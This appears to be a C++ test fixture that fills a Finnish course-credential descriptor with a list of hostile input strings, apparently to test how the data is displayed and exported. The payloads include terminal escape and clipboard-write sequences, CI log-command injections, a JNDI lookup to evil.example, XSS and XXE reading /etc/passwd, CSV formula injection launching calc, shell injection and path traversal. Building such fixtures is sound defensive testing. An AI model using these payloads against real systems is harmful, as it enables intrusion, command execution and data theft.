// The descriptor into which the attacks are put, and the texts that attack whoever shows them.
#include <cstdint>

#include "inputs.h"

namespace hostile {
namespace {

using namespace std::string_literals;

// Names in braces with a `$` are filled; nothing else is.
constexpr std::string_view kDescriptor = R"(id: ${id}
kind: ${kind}
version: ${version}
languages: [en, fi]
title: {en: ${title}, fi: Rakennuksen lämpökuvaus}
description:
  en: ${description}
  fi: Opit kuvaamaan rakennuksen lämpökameralla ja raportoimaan viat asiakkaalle.
target_group: {en: Construction professionals, fi: Rakennusalan ammattilaiset}
providers:
  - role: awarding
    type: hei
    legal_name: ${organisation}
    name: {en: Example University of Applied Sciences, fi: Esimerkki-ammattikorkeakoulu}
    country: ${country}
    region: FI197
    institution_code: ${code}
    registration: {scheme: business_id, value: ${registration}}
learning_outcomes:
  - id: LO1
    text: {en: ${outcome}, fi: Osallistuja kuvaa rakennuksen lämpökameralla ohjeen mukaan}
workload: {ects: ${ects}, unit: op, hours: ${hours}, breakdown: {contact: 8, independent: 42, assessment: 4}}
level: {eqf: ${eqf}, cycle: first, nqf: {framework: FiNQF, level: 6, basis: learning_outcomes}}
fields: ['0732']
assessment:
  - id: A1
    type: practical
    outcomes: [LO1]
    supervision: supervised_with_id
    assessed_by: awarding_body
    criteria: {en: ${criteria}, fi: Kuvaus tehdään ohjeen mukaan}
grading: {scale: virta_pass, criteria: {HYV: {en: The criteria are met, fi: Kriteerit täyttyvät}}}
participation: {mode: blended, languages: [fi]}
learning_setting: formal
prerequisites: none
quality_assurance:
  type: institutional_qa
  frameworks: [ESG]
  internal: {document: 'https://esimerkki.example/laatu'}
  external: {body: FINEEC, kind: audit, decided: ${decided}, valid_until: 2029-06-14}
  covers: {credential: true, course: true, learner_feedback: true, peer_feedback: true}
relevance:
  need_kinds: [labour_market]
  evidence: [{kind: employer_request, date: 2026-02-10, url: 'https://esimerkki.example/tarve'}]
  partners: [{kind: employer, role: needs}]
integration: {option: standalone}
recognition: {purposes: [employment], url: 'https://esimerkki.example/hyvaksiluku', rpl: {available: true, url: 'https://esimerkki.example/ahot'}}
learner_identification: {method: institutional_account, attributes: [given_name, family_name, date_of_birth]}
credential: {digital: true, formats: [edc, signed_pdf], verification: e_seal, owned_by_learner: true, shareable: true, portable: true, award_condition: all_outcomes_achieved}
issuing: {date_rule: within_days_of_acceptance, days: 14, place: Tampere}
legal_form: continuing_education
funding: participant
price: {kind: paid, amount: ${amount}, currency: EUR, vat: included}
enrolment: {period: {start: 2026-10-01, end: 2026-10-31}, places: 20, decided_by: provider}
delivery: {start: 2026-11-09, end: 2026-12-18}
guidance: {contact: {email: ${email}}, languages: [fi, en], channels: [web, phone]}
feedback: {learner: {method: survey, used_in: yearly review}}
review: {last: 2026-04-15, next: 2027-04-15}
privacy: {notice: 'https://esimerkki.example/tietosuoja', controller: Esimerkki-ammattikorkeakoulu Oy}
accessibility: {wcag: 2.1 AA, support: 'https://esimerkki.example/tuki', statement: 'https://esimerkki.example/saavutettavuus'}
further_information: ${url}
)";

const std::vector<std::pair<std::string, std::string>>& usual() {
  static const std::vector<std::pair<std::string, std::string>> values{
      {"kind", "small_competence_module"},
      {"version", "1"},
      {"title", "Thermal imaging of buildings"},
      {"description", "You learn to survey a building with a thermal camera and to report the faults to a client."},
      {"organisation", "Esimerkki-ammattikorkeakoulu Oy"},
      {"country", "FI"},
      {"code", "'99999'"},
      {"registration", "1234567-1"},
      {"outcome", "Survey a building with a thermal camera according to the measuring guide"},
      {"ects", "2"},
      {"hours", "54"},
      {"eqf", "6"},
      {"criteria", "The survey follows the guide and the camera is set correctly"},
      {"decided", "2023-06-14"},
      {"amount", "290"},
      {"email", "jatkuvaoppiminen@esimerkki.example"},
      {"url", "'https://esimerkki.example/lampokuvaus'"},
  };
  return values;
}

void put(std::string& text, const std::string& name, std::string_view value) {
  const auto slot = "${" + name + "}";
  if (const auto at = text.find(slot); at != std::string::npos) text.replace(at, slot.size(), value);
}

char hex(unsigned digit) { return "0123456789abcdef"[digit & 0xf]; }

/// A code point, and how many bytes of well-formed UTF-8 it takes; the texts here are well-formed.
std::uint32_t code_at(std::string_view text, std::size_t& at) {
  const auto byte = [&](std::size_t index) {
    return static_cast<std::uint32_t>(static_cast<unsigned char>(text[index]));
  };
  const auto lead = byte(at);
  const std::size_t more = lead < 0x80 ? 0 : lead < 0xe0 ? 1 : lead < 0xf0 ? 2 : 3;
  std::uint32_t code = more == 0 ? lead : lead & (0x3fU >> more);
  for (std::size_t i = 1; i <= more; ++i) code = code << 6 | (byte(at + i) & 0x3f);
  at += more + 1;
  return code;
}

}  // namespace

std::string descriptor(std::string_view id, const std::vector<std::pair<std::string, std::string>>& values) {
  std::string text{kDescriptor};
  for (const auto& [name, value] : values) put(text, name, value);
  put(text, "id", "hostile-" + std::string{id});
  for (const auto& [name, value] : usual()) put(text, name, value);
  return text;
}

std::string times(std::size_t count, std::string_view text) {
  std::string out;
  out.reserve(count * text.size());
  for (std::size_t i = 0; i < count; ++i) out += text;
  return out;
}

std::string quoted(std::string_view text) {
  std::string out = "\"";
  for (std::size_t at = 0; at < text.size();) {
    const auto code = code_at(text, at);
    if (code == '"' || code == '\\') {
      out += '\\';
      out += static_cast<char>(code);
    } else if (code >= 0x20 && code < 0x7f) {
      out += static_cast<char>(code);
    } else {
      out += "\\u";  // all of ours are below U+10000
      for (int shift = 12; shift >= 0; shift -= 4) out += hex(code >> shift);
    }
  }
  return out + '"';
}

const std::vector<Payload>& payloads() {
  static const std::vector<Payload> all{
      {"csi", "a\x1b[31m\x1b[2Jred"},
      {"osc8", "a\x1b]8;;https://evil.example\x1b\\link"},
      {"osc52", "a\x1b]52;c;ZXZpbA==\x07"},
      {"c1",
       "a\xc2\x9b"
       "31m\xc2\x9d"
       "0;x\xc2\x9c"},
      {"bs",
       "good\x08\x08\x08\x08"
       "evil"},
      {"cr", "good\revil"},
      {"nul", "good\0evil"s},
      {"bidi",
       "a\xe2\x80\xae"
       "gpj.exe\xe2\x81\xa6x"},
      {"zero-width", "a\xe2\x80\x8b\xef\xbb\xbf\xe2\x81\xa0z"},
      {"line-separator", "a\xe2\x80\xa8::error::b\xe2\x80\xa9\xc2\x85"},
      {"noncharacter",
       "a\xef\xbf\xbf"
       "b\xef\xb7\x90"},
      {"gha-error", "::error file=x::owned"},
      {"gha-line", "x\n::add-mask::secret\n  ::stop-commands::x\n"},
      {"gha-hashes", "a ##[error]owned ##[add-mask]x"},
      {"gha-percent", "x%0A::error::owned%0D%25"},
      {"ado", "##vso[task.setvariable variable=PATH]evil"},
      {"teamcity", "##teamcity[buildProblem description='owned']"},
      {"gitlab", "section_start:1:x[collapsed=true]\n##[section]y"},
      {"expression", "${{ github.token }} ${jndi:ldap://evil.example/x} $(id) `id`"},
      {"html", "<script>xss()</script><xss onmouseover=alert(1)>"},
      {"html-attribute", "\" autofocus onfocus=\"xss()\" x=' ><xss"},
      {"html-close", "</style></title></td><xss>--><!--"},
      {"svg", "<svg/onload=xss()><xss></svg>"},
      {"json-close", "</script><xss>\"}]},{\"rule\":\"x"},
      {"xml", "]]><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;<xss/>"},
      {"entity", "&lt;xss&gt;&#60;xss&#x3e;&amp;lt;"},
      {"csv-equals", "=HYPERLINK(\"https://evil.example\",\"x\")"},
      {"csv-plus", "+1+cmd|' /C calc'!A0"},
      {"csv-minus", "-1+2"},
      {"csv-at", "@SUM(1+1)*cmd|' /C calc'!A0"},
      {"csv-tab", "\t=1+1"},
      {"csv-cells", "a\",\"=1+1\"\n\"=2+2\",\"b"},
      {"sarif-place", "{0} {1} {{2}} {value} {path}"},
      {"sarif-link", "[evil](https://evil.example) [here](1) \\[x\\](2)"},
      {"markdown", "**b** `c` <xss> [l](javascript:xss()) ![i](https://evil.example/i) | x |\n# h\n---\n@team #1"},
      {"markdown-fence", "```\n```html\n<xss>\n~~~"},
      {"yaml", "a: b # c\n- d\n--- \n... &x *x !y | > % ` @"},
      {"json", "\\\",\\u0000\\x \"}]"},
      {"shell", "'; touch owned; \" $(touch owned) `touch owned` | touch owned &"},
      {"format", "%s%n%x {} {0:>999999} {:{}}"},
      {"path", "../../../../etc/passwd\\..\\x"},
      {"url", "javascript:xss()//https://esimerkki.example"},
      {"iri", "https://x.example/> <urn:p> <urn:o> . #"},
      {"long", std::string(60000, 'W')},
      {"combining", "a" +
                        [] {
                          std::string marks;
                          for (int i = 0; i < 5000; ++i) marks += "\xcc\x81";
                          return marks;
                        }()},
  };
  return all;
}

}  // namespace hostile
